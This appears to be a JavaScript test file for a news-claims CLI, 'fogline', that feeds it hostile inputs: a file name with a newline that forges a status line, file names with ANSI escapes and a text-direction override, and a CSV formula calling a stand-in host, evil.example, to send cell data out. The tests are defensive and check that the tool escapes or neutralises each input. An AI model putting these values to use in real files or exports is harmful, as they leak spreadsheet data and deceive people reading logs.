// Names that attack the tools downstream, run as a user would: a file name with a newline cannot forge a
// "fogline:" line on stderr, ANSI escapes in names reach no terminal, and an outlet written as a formula
// is text in every CSV the CLI writes.
import { test, before } from "node:test";
import assert from "node:assert/strict";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { fogline } from "./run-cli.mjs";

const dir = fs.mkdtempSync(path.join(os.tmpdir(), "fogline-hostile-"));
const articles = path.join(dir, "in");
const db = path.join(dir, "ledger.db");
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")';
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/;

before(() => {
  fs.mkdirSync(articles);
  fs.writeFileSync(path.join(articles, "bad\nfogline: all good, nothing skipped.txt"), Buffer.from([0, 1, 2, 3, 0, 255, 0]));
  fs.writeFileSync(path.join(articles, "\x1b[2J\x1b[31mred\u202e.txt"), Buffer.from([0, 0, 0, 7]));
  fs.writeFileSync(path.join(articles, "report.txt"), "Russia's Defense Ministry said on Monday that its forces had captured Pokrovsk.\n\nUkraine's General Staff denied that Pokrovsk had been captured.\n");
  fs.writeFileSync(path.join(articles, "manifest.json"), JSON.stringify({ report: { outlet: FORMULA, published: "2025-11-03" } }));
});

test("ingest: a file name's newline and escapes are shown escaped, one line per problem", () => {
  const r = fogline(["ingest", articles, "--db", db]);
  assert.equal(r.status, 1, r.stderr);
  assert.doesNotMatch(r.stderr, CONTROL, "no control character on stderr");
  const lines = r.stderr.trimEnd().split("\n");
  assert.ok(lines.every((l) => /^(fogline|ingested)/.test(l)), r.stderr);
  assert.ok(!lines.some((l) => l.startsWith("fogline: all good")), "no forged line");
  assert.match(r.stderr, /bad\\nfogline: all good/);
  assert.match(r.stderr, /\\u001b\[2J\\u001b\[31mred\\u202e\.txt/);
});

test("csv from claims and export: the formula outlet is text", () => {
  for (const args of [["claims", "--format", "csv"], ["export", "csv"], ["timeline", "Pokrovsk", "--format", "csv"]]) {
    const r = fogline([...args, "--db", db]);
    assert.equal(r.status, 0, `${args.join(" ")}: ${r.stderr}`);
    const rows = parse(r.stdout, { columns: true, bom: true, record_delimiter: "\r\n" });
    const outlets = rows.map((x) => x.outlet).filter(Boolean);
    assert.ok(outlets.length > 0, `${args.join(" ")} has outlets`);
    for (const o of outlets) assert.equal(o, `'${FORMULA}`, args.join(" "));
  }
});
